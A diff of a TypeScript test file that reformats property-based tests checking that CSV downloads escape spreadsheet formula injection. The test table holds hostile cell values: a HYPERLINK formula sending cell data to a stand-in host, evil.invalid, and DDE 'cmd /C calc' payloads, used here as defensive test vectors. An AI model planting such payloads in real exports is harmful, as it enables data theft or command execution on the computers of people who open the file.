@@ -89,27 +89,33 @@ const RUNS = { numRuns: 3000 };
 describe('toExcelCsv (every view download)', () => {
   it('no text cell starts like a formula, texts read back as written (after the quote), numbers stay numbers', () => {
     fc.assert(
-      fc.property(fc.array(fc.array(fc.oneof(text, number, fc.constant(null)), { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 6 }), (rows) => {
-        const width = Math.max(...rows.map((row) => row.length));
-        const padded = rows.map((row) => [...row, ...Array<CsvCell>(width - row.length).fill(null)]);
-        const header = padded[0].map((_, i) => (i === 0 ? '=header' : `h${i}`));
-        const csv = toExcelCsv(header, padded);
-        const read = cells(csv);
-        expect(read[0][0]).toBe("'=header");
-        padded.forEach((row, r) => {
-          row.forEach((cell, c) => {
-            const got = read[r + 1][c];
-            if (typeof cell === 'number') {
-              expect(got).toBe(String(cell));
-              expect(Number(got) === cell).toBe(true); // -0 is written 0
-            } else if (cell === null) expect(got).toBe('');
-            else {
-              expectInert(got);
-              expect(got).toBe(looksLikeFormula(cell) ? `'${cell}` : cell);
-            }
+      fc.property(
+        fc.array(fc.array(fc.oneof(text, number, fc.constant(null)), { minLength: 1, maxLength: 6 }), {
+          minLength: 1,
+          maxLength: 6
+        }),
+        (rows) => {
+          const width = Math.max(...rows.map((row) => row.length));
+          const padded = rows.map((row) => [...row, ...Array<CsvCell>(width - row.length).fill(null)]);
+          const header = padded[0].map((_, i) => (i === 0 ? '=header' : `h${i}`));
+          const csv = toExcelCsv(header, padded);
+          const read = cells(csv);
+          expect(read[0][0]).toBe("'=header");
+          padded.forEach((row, r) => {
+            row.forEach((cell, c) => {
+              const got = read[r + 1][c];
+              if (typeof cell === 'number') {
+                expect(got).toBe(String(cell));
+                expect(Number(got) === cell).toBe(true); // -0 is written 0
+              } else if (cell === null) expect(got).toBe('');
+              else {
+                expectInert(got ?? '');
+                expect(got).toBe(looksLikeFormula(cell ?? '') ? `'${cell}` : cell);
+              }
+            });
           });
-        });
-      }),
+        }
+      ),
       RUNS
     );
   });
@@ -117,8 +123,8 @@ describe('toExcelCsv (every view download)', () => {
   it.each([
     ['=HYPERLINK("http://evil.invalid/?"&A1,"คลิก")', `'=HYPERLINK("http://evil.invalid/?"&A1,"คลิก")`],
     ['+66812345678', "'+66812345678"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
     ['ราชสาส์น', 'ราชสาส์น']
@@ -172,20 +178,40 @@ describe('the framework CSVs (a data file read back: escaping is reversible)', (
     ],
     bands: [
       { kpi: '=A1', level: '@5', points: 5, op: '>=', value: -5, value2: null, unit: null, label: '=1+1' },
-      { kpi: '=A1', level: '+4', points: 4, op: 'between', value: -20, value2: -5, unit: null, label: '-20 ถึง -5' },
+      {
+        kpi: '=A1',
+        level: '+4',
+        points: 4,
+        op: 'between',
+        value: -20,
+        value2: -5,
+        unit: null,
+        label: '-20 ถึง -5'
+      },
       { kpi: '=A1', level: '-3', points: 3, op: 'any', value: null, value2: null, unit: null, label: '-' },
       { kpi: '=A1', level: '@5', points: 5, op: '>=', value: -10, value2: null, unit: 'บางคล้า', label: "''@" }
     ],
-    targets: [{ kpi: '=A1', unit: 'บางคล้า', month: '2022-04', target: -1.25, baseline: -3 }],
+    targets: [{ kpi: '=A1', unit: 'บางคล้า', month: '2022-04', target: -1.25, baseline: -3 }]
   };
-  const NUMERIC_COLUMNS = new Set(['fiscal_year', 'weight', 'points', 'value', 'value2', 'target', 'baseline']);
+  const NUMERIC_COLUMNS = new Set([
+    'fiscal_year',
+    'weight',
+    'points',
+    'value',
+    'value2',
+    'target',
+    'baseline'
+  ]);
 
   it('writes no text cell that starts like a formula; numbers (negative ones too) stay plain numbers', () => {
     for (const file of frameworkToCsvFiles(hostile)) {
       const [header, ...rows] = cells(file.text);
       for (const row of rows) {
         row.forEach((cell, i) => {
-          if (NUMERIC_COLUMNS.has(header[i])) expect(cell === '' || Number.isFinite(Number(cell)), `${file.name} ${header[i]} ${cell}`).toBe(true);
+          if (NUMERIC_COLUMNS.has(header[i]))
+            expect(cell === '' || Number.isFinite(Number(cell)), `${file.name} ${header[i]} ${cell}`).toBe(
+              true
+            );
           else expectInert(cell);
         });
       }
@@ -201,7 +227,9 @@ describe('the framework CSVs (a data file read back: escaping is reversible)', (
   });
 
   it('round-trips any text in any text field', () => {
-    const trimmed = text.map((value) => value.trim()).filter((value) => value !== '' && !value.includes(' | '));
+    const trimmed = text
+      .map((value) => value.trim())
+      .filter((value) => value !== '' && !value.includes(' | '));
     fc.assert(
       fc.property(trimmed, trimmed, trimmed, (name, label, group) => {
         const fw: Framework = {
@@ -228,7 +256,20 @@ describe('downloads built from data', () => {
     fiscalYear: 2565,
     period: 'R2',
     kpis: [
-      { ...({} as Framework['kpis'][number]), kpi: '=K1', name: 'x', group: null, weight: 100, scale: '1-5', measure: 'value', aggregate: 'last', interpolate: false, targetLevel: null, parent: null, combine: null }
+      {
+        ...({} as Framework['kpis'][number]),
+        kpi: '=K1',
+        name: 'x',
+        group: null,
+        weight: 100,
+        scale: '1-5',
+        measure: 'value',
+        aggregate: 'last',
+        interpolate: false,
+        targetLevel: null,
+        parent: null,
+        combine: null
+      }
     ],
     bands: [],
     targets: [],
@@ -293,18 +334,42 @@ describe('downloads built from data', () => {
       }
     ]);
     const [, row] = cells(csv);
-    expect(row).toEqual(['บางคล้า', '2402', "'-K", '2022-09', '-1', '2', '', '', '', '', '', '-0.5', "'=old.csv", '3', "'@new.csv", '4']);
+    expect(row).toEqual([
+      'บางคล้า',
+      '2402',
+      "'-K",
+      '2022-09',
+      '-1',
+      '2',
+      '',
+      '',
+      '',
+      '',
+      '',
+      '-0.5',
+      "'=old.csv",
+      '3',
+      "'@new.csv",
+      '4'
+    ]);
   });
 
   it('rejected rows: any file, column, reason and suggestion text is inert', () => {
     fc.assert(
-      fc.property(text, text, text, fc.array(text, { maxLength: 3 }), fc.nat(), (file, column, reason, suggestions, line) => {
-        const read = cells(rejectionsToCsv([{ file, line, column, reason, suggestions }]));
-        expect(read[0]).toEqual(['file', 'line', 'column', 'reason', 'suggestions']);
-        read[1].forEach(expectInert);
-        expect(read[1][1]).toBe(String(line));
-        expect(read[1][0]).toBe(looksLikeFormula(file) ? `'${file}` : file);
-      }),
+      fc.property(
+        text,
+        text,
+        text,
+        fc.array(text, { maxLength: 3 }),
+        fc.nat(),
+        (file, column, reason, suggestions, line) => {
+          const read = cells(rejectionsToCsv([{ file, line, column, reason, suggestions }]));
+          expect(read[0]).toEqual(['file', 'line', 'column', 'reason', 'suggestions']);
+          read[1].forEach(expectInert);
+          expect(read[1][1]).toBe(String(line));
+          expect(read[1][0]).toBe(looksLikeFormula(file) ? `'${file}` : file);
+        }
+      ),
       RUNS
     );
   });
